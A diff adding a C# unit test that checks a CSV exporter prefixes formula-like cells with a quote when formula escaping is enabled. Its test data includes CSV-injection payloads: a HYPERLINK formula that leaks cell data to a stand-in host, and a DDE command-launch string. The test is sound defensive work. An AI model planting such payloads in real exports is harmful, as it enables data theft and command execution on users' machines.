@@ -72,6 +72,31 @@ public sealed class CsvFileSyncTests : IDisposable
         Directory.GetFiles(_out.Path, "*.tmp").Should().BeEmpty();
     }
 
+    public static readonly TheoryData<bool> EscapeSettings = new() { true, false };
+
+    [Theory]
+    [MemberData(nameof(EscapeSettings))]
+    public async Task Cells_a_spreadsheet_would_run_as_formulas_get_a_leading_quote_unless_EscapeFormulas_is_off(bool escape)
+    {
+        var h = Start(new() { ["Cdp:Destinations:drop:EscapeFormulas"] = escape ? "true" : "false", ["Cdp:Destinations:drop:Output"] = "Changes" });
+        string[] hostile = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click me\")", "+SUM(1,2)", "-2+3", "@SUM(1+1)", "=cmd|' /C calc'!A0", "\tTab", "\rReturn", "Plain - fine"];
+        var ids = await h.SeedAsync(hostile.Select((name, i) => new Person($"u{i}", $"person{i}@example.com", FirstName: name)));
+        h.Segments.Set("vip", ids);
+
+        var run = await h.RunAsync("export");
+
+        run.Status.Should().Be(SyncRunStatus.Succeeded, string.Join("; ", run.Errors));
+        var rows = (await ReadCsv(Files("*-added.csv").Single())).Skip(1).ToDictionary(r => r[0], r => r[2]);
+        for (var i = 0; i < hostile.Length; i++)
+        {
+            var expected = escape && hostile[i][0] is '=' or '+' or '-' or '@' or '\t' or '\r' ? "'" + hostile[i] : hostile[i];
+            rows[$"person{i}@example.com"].Should().Be(expected);
+        }
+        var preview = await h.RunAsync("export", dryRun: true, full: true);
+        preview.FirstPayload.Should().Contain(escape ? "'+SUM(1,2)" : "+SUM(1,2)");
+        if (escape) preview.FirstPayload.Should().NotContain(",+SUM(1,2)");
+    }
+
     [Fact]
     public async Task Changes_mode_writes_added_and_removed_files_and_retention_keeps_the_newest()
     {
